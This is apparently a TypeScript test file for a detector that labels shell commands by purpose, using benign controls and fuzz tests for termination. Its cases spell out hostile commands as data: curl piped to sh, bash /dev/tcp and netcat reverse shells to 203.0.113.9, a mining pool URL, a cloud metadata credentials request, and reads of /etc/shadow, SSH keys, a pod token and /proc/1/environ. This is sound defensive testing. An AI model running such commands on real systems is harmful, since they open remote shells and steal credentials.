import fc from "fast-check";
import { expect, test } from "vitest";
import { findPurposes } from "./command-purposes.ts";

// By hand, from what each program does by its manual.
test.each([
  { name: "nothing", words: [], expected: [] },
  { name: "a list of files", words: ["ls", "-l", "/srv"], expected: [] },
  { name: "names of hosts", words: ["cat", "/etc/hosts"], expected: [] },
  { name: "a health check", words: ["curl", "-fsS", "http://localhost:8080/healthz"], expected: [] },
  { name: "a version", words: ["curl", "--version"], expected: [] },
  { name: "a word about curl", words: ["echo", "curl http://203.0.113.9/x"], expected: [] },
  { name: "a download", words: ["wget", "http://203.0.113.9/x"], expected: ["download"] },
  {
    name: "a download in a shell's script",
    words: ["sh", "-c", "cd /tmp && curl -s http://203.0.113.9/x | sh"],
    expected: ["download"],
  },
  {
    name: "a shell to elsewhere",
    words: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
    expected: ["reverse-shell"],
  },
  { name: "netcat with a shell", words: ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"], expected: ["reverse-shell"] },
  { name: "a pool", words: ["/tmp/x", "-o", "stratum+tcp://pool.example:3333"], expected: ["miner"] },
  {
    name: "credentials of the machine",
    words: ["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
    expected: ["cloud-metadata", "download"],
  },
  {
    name: "the token of the pod",
    words: ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    expected: ["credentials"],
  },
  { name: "keys of a user", words: ["sh", "-c", "cat ~/.ssh/id_rsa"], expected: ["credentials"] },
  { name: "hashes of passwords", words: ["cat", "/etc/shadow"], expected: ["credentials"] },
  { name: "a file whose name begins so", words: ["cat", "/etc/shadowsocks.json"], expected: [] },
  { name: "the environment of a process", words: ["cat", "/proc/1/environ"], expected: ["credentials"] },
  { name: "the number of a process", words: ["cat", "/proc/1/status"], expected: [] },
])("$name", ({ words, expected }) => {
  expect(findPurposes(words)).toEqual(expected);
});

test("ends for whatever words, also very long ones", () => {
  fc.assert(fc.property(fc.array(fc.string({ unit: "binary" })), (words) => Array.isArray(findPurposes(words))));
  expect(findPurposes(["sh", "-c", "$(".repeat(200_000)])).toEqual([]);
  expect(findPurposes(Array.from({ length: 50_000 }, () => "'"))).toEqual([]);
});
